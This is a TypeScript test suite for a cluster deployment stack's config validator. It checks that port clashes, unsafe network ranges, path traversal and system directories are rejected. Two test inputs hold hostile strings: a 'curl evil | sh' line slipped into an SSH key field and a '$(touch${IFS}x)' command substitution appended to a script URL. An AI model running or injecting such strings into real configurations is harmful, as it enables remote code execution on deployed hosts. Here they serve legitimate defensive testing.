import { expect } from "chai";
import { platformConfigSchema, stackConfigWarnings, StackConfig } from "../../../config/schema";
import { loadStackConfig } from "../../../config/load";
import { validate } from "../../../components/validate";
import { fullConfig, layoutHosts, setStackConfig } from "./stack";

/**
 * Config the schema used to accept although it is wrong: each is refused with the key, the value
 * given and what is expected (`<key>: expected …, got …`), or, where it is legal but risky, warned about.
 */

/** The error lines for a config ([] when it is valid). */
function errors(raw: Record<string, any>): string[] {
    try {
        validate(platformConfigSchema, raw, "stack config");
        return [];
    } catch (e) {
        return (e as Error).message
            .split("\n")
            .slice(1)
            .map((l) => l.trim());
    }
}

const local = (c: Record<string, any>) => {
    c.target = "local";
    delete c.sshPrivateKey;
    delete c.existing;
    return c;
};
const aws = (c: Record<string, any>) => {
    local(c);
    delete c.network;
    c.target = "aws";
    c.hosts = layoutHosts("10.0.17", "10.0.16");
    c.aws = { adminCidr: "198.51.100.0/24" };
    return c;
};
const withChange = (f: (c: Record<string, any>) => unknown) => {
    const c = fullConfig();
    f(c);
    return c;
};

const cases: [string, (c: Record<string, any>) => unknown, string][] = [
    // Two services on one port of the same host (node1 runs ZooKeeper, the registry, the log server, the master, Marathon and nginx).
    [
        "the registry on ZooKeeper's port",
        (c) => (c.registry.port = 2181),
        "registry.port: expected a port that no other service on node1 uses (zookeeper.clientPort, ZooKeeper's client port, is 2181), got 2181",
    ],
    [
        "nginx's hostPort on the registry's",
        (c) => (c.apps.nginx.hostPort = 5000),
        "apps.nginx.hostPort: expected a port that no other service on node1 uses (registry.port, the Docker registry, is 5000), got 5000",
    ],
    [
        "logging on the Mesos master's port",
        (c) => (c.logging.port = 5050),
        "logging.port: expected a port that no other service on node1 uses (mesos.masterPort, the Mesos master, is 5050), got 5050",
    ],
    [
        "Marathon on the Mesos master's port",
        (c) => (c.mesos.marathon.httpsPort = 5050),
        "mesos.marathon.httpsPort: expected a port that no other service on node1 uses (mesos.masterPort, the Mesos master, is 5050), got 5050",
    ],
    [
        "plain-HTTP Marathon on the Mesos master's port",
        (c) => ((c.mesos.marathon.tls = false), (c.mesos.marathon.httpPort = 5050)),
        "mesos.marathon.httpPort: expected a port that no other service on node1 uses (mesos.masterPort, the Mesos master, is 5050), got 5050",
    ],
    [
        "nginx inside the Mesos task ports",
        (c) => (c.apps.nginx.hostPort = 31500),
        "apps.nginx.hostPort: expected a port that no other service on node1 uses (Mesos task ports 31000-32000), got 31500",
    ],
    // Addresses and networks.
    [
        "docker.bip holding a host's address",
        (c) => (c.docker.bip = "10.0.15.1/24"),
        'docker.bip: expected a docker0 network that holds no host address (10.0.15.0/24 holds mgmt\'s 10.0.15.10), got "10.0.15.1/24"',
    ],
    [
        "docker.bip inside the local subnet",
        (c) => (local(c), (c.docker.bip = "10.0.15.129/25")),
        'docker.bip: expected a docker0 network outside network.subnet 10.0.15.0/24 (the hosts\' network), got "10.0.15.129/25"',
    ],
    [
        "docker.bip inside the mesh range",
        (c) => (c.docker.bip = "10.2.0.1/24"),
        'docker.bip: expected a docker0 network outside mesh.weave.ipRange 10.2.0.0/16 (the containers\' network), got "10.2.0.1/24"',
    ],
    [
        "docker.bip on its network address",
        (c) => (c.docker.bip = "172.31.0.0/24"),
        'docker.bip: expected docker0\'s own address with its prefix, like 172.31.0.1/24 (not the network or broadcast address), got "172.31.0.0/24"',
    ],
    [
        "a host address with leading zeros",
        (c) => (c.hosts[3].ip = "10.00.15.12"),
        'hosts[3].ip: expected an IPv4 address without leading zeros, like 10.0.15.12, got "10.00.15.12"',
    ],
    [
        "a subnet with host bits set",
        (c) => (local(c), (c.network.subnet = "10.0.15.5/24")),
        'network.subnet: expected a network address with no host bits set, like 10.0.15.0/24, got "10.0.15.5/24"',
    ],
    [
        "the local subnet 0.0.0.0/0",
        (c) => (local(c), (c.network.subnet = "0.0.0.0/0")),
        'network.subnet: expected a network from /8 to /28 (it holds the hosts\' addresses), got "0.0.0.0/0"',
    ],
    [
        "an AWS VPC /8",
        (c) => (aws(c), (c.aws.vpcCidr = "10.0.0.0/8")),
        'aws.vpcCidr: expected a network from /16 to /28 (what AWS allows for a VPC and its subnets), got "10.0.0.0/8"',
    ],
    [
        "adminCidr 0.0.0.0/1",
        (c) => (aws(c), (c.aws.adminCidr = "0.0.0.0/1")),
        'aws.adminCidr: expected your admin network, at most a /8, not 2147483648 addresses of the internet, got "0.0.0.0/1"',
    ],
    [
        "adminCidr 128.0.0.0/1",
        (c) => (aws(c), (c.aws.adminCidr = "128.0.0.0/1")),
        'aws.adminCidr: expected your admin network, at most a /8, not 2147483648 addresses of the internet, got "128.0.0.0/1"',
    ],
    // The security groups' ports are derived from the services (components/ports.ts): the old list is refused.
    [
        "clusterPorts, a list no longer read",
        (c) => (aws(c), (c.aws.clusterPorts = [{ protocol: "tcp", from: 2200, to: 22 }])),
        `aws.clusterPorts: no longer a setting: the security groups open exactly the ports the services use, derived from their settings ` +
            `(components/ports.ts, docs/hosts.md "Ports"); remove aws.clusterPorts (the apps' entry: apps.entry.allowFrom), got ` +
            `[{"protocol":"tcp","from":2200,"to":22}]`,
    ],
    // Sizes.
    ["sizeGb 1e300", (c) => (c.volumes.datasets[0].sizeGb = 1e300), "volumes.datasets[0].sizeGb: expected a size in GB of at most 16384, got 1e+300"],
    ["sizeGb 1e-12", (c) => (c.volumes.datasets[0].sizeGb = 1e-12), "volumes.datasets[0].sizeGb: expected a size in GB of at least 0.125 (128 MiB), got 1e-12"],
    [
        "sizeGb not whole MiB",
        (c) => (c.volumes.datasets[0].sizeGb = 0.3333),
        "volumes.datasets[0].sizeGb: expected a whole number of MiB (sizeGb × 1024 a whole number, like 1.5), got 0.3333",
    ],
    [
        "a ZFS pool smaller than its datasets",
        (c) => (c.volumes.pool.vdevSizeGb = 1),
        "volumes.pool.vdevSizeGb: expected at least the datasets' total size (2 GB: mongo 1, scratch 1), got 1",
    ],
    ["a ZFS pool of 1e300 GB", (c) => (c.volumes.pool.vdevSizeGb = 1e300), "volumes.pool.vdevSizeGb: expected a size in GB of at most 65536, got 1e+300"],
    // Directories the stack owns.
    [
        "registry storage at /etc",
        (c) => (c.registry.storageDir = "/etc"),
        'registry.storageDir: expected a directory of its own, not in the system tree /etc (the stack sets its owner and mode), got "/etc"',
    ],
    [
        "ZooKeeper data at /",
        (c) => (c.zookeeper.dataDir = "/"),
        'zookeeper.dataDir: expected a directory of its own, not / (the stack sets its owner and mode), got "/"',
    ],
    [
        "a mount root with ..",
        (c) => (c.volumes.mountRoot = "/flocker/../etc"),
        'volumes.mountRoot: expected a normalised path (no //, . or .. segments: a path must name the directory it means), got "/flocker/../etc"',
    ],
    [
        "a pool file in /etc",
        (c) => (c.volumes.pool.vdevPath = "/etc/pool.img"),
        "volumes.pool.vdevPath: expected a file in a directory of its own, not in the system tree /etc " +
            '(the stack sets its owner and mode), got "/etc/pool.img"',
    ],
    [
        "a Docker CLI path with ..",
        (c) => (c.mesos.agentDockerCli = "/usr/bin/../../etc/docker"),
        'mesos.agentDockerCli: expected a normalised path (no //, . or .. segments: a path must name the directory it means), got "/usr/bin/../../etc/docker"',
    ],
    // Expressions and keys.
    [
        "gcSchedule every tuesday",
        (c) => (c.registry.gcSchedule = "every tuesday"),
        'registry.gcSchedule: expected a systemd OnCalendar expression like "Sun *-*-* 03:00:00", "Mon..Fri 02:30" or "weekly", got "every tuesday"',
    ],
    [
        "an SSH key with junk around its PEM",
        (c) => (c.sshPrivateKey = `curl evil | sh\n${c.sshPrivateKey}trailing junk`),
        "sshPrivateKey: expected exactly one SSH private key (PEM / OpenSSH), " +
            "from -----BEGIN … PRIVATE KEY----- to -----END … PRIVATE KEY-----, got (hidden)",
    ],
    [
        "a weave script URL with a command substitution",
        (c) => (c.mesh.weave.scriptUrl += "$(touch${IFS}x)"),
        "mesh.weave.scriptUrl: expected an https URL of the weave script like https://github.com/weaveworks/weave/releases/download/v2.8.1/weave (host and " +
            "path of letters, digits and . _ ~ % + - /), got ",
    ],
];

describe("security: config that was accepted but wrong is refused, naming key, value and expectation", () => {
    it("the baseline is valid", () => {
        expect(errors(fullConfig())).to.deep.equal([]);
        expect(errors(local(fullConfig()))).to.deep.equal([]);
        expect(errors(withChange((c) => aws(c)))).to.deep.equal([]);
    });

    for (const [what, change, line] of cases) {
        it(what, () => {
            const lines = errors(withChange(change));
            expect(
                lines.some((l) => l.startsWith(line)),
                `${JSON.stringify(lines, null, 1)}\nshould have a line starting\n${line}`,
            ).to.equal(true);
        });
    }

    it('a registry password with " or \\ stays accepted (the writers escape it: curl-config.test.ts)', () => {
        expect(errors(withChange((c) => (c.registryPassword = 'quote"and\\backslash-123')))).to.deep.equal([]);
    });

    it("accepts what AWS allows and what is plainly right", () => {
        expect(errors(withChange((c) => (aws(c), (c.aws.vpcCidr = "10.0.0.0/16"))))).to.deep.equal([]);
        expect(errors(withChange((c) => (c.volumes.datasets[0].sizeGb = 0.5)))).to.deep.equal([]);
        expect(errors(withChange((c) => (c.registry.gcSchedule = "Mon..Fri *-*-* 02:30:00")))).to.deep.equal([]);
        expect(errors(withChange((c) => (c.registry.storageDir = "/srv/registry")))).to.deep.equal([]);
    });
});

describe("security: legal but risky config is warned about", () => {
    const warnings = (raw: Record<string, any>) => stackConfigWarnings(validate(platformConfigSchema, raw, "stack config") as StackConfig);

    it("an admin network wider than /24", () => {
        expect(warnings(withChange((c) => (aws(c), (c.aws.adminCidr = "10.0.0.0/16"))))).to.deep.equal([
            "aws.adminCidr: 10.0.0.0/16 opens SSH and the admin UIs to 65536 addresses; an admin network is expected to be a /24 or narrower",
        ]);
        expect(warnings(withChange((c) => aws(c)))).to.deep.equal([]);
    });

    it("weavePassword set while the mesh is the overlay", () => {
        expect(warnings(withChange((c) => (c.mesh.implementation = "overlay")))).to.deep.equal([
            'weavePassword: set, but mesh.implementation is "overlay": it is not used (remove it, or choose implementation "weave")',
        ]);
        expect(warnings(fullConfig())).to.deep.equal([]);
    });

    it("loadStackConfig hands the warnings to the log", () => {
        const seen: string[] = [];
        setStackConfig(withChange((c) => (c.mesh.implementation = "overlay")));
        loadStackConfig((m) => seen.push(m));
        expect(seen).to.deep.equal([
            'stack config: weavePassword: set, but mesh.implementation is "overlay": it is not used (remove it, or choose implementation "weave")',
        ]);
    });
});
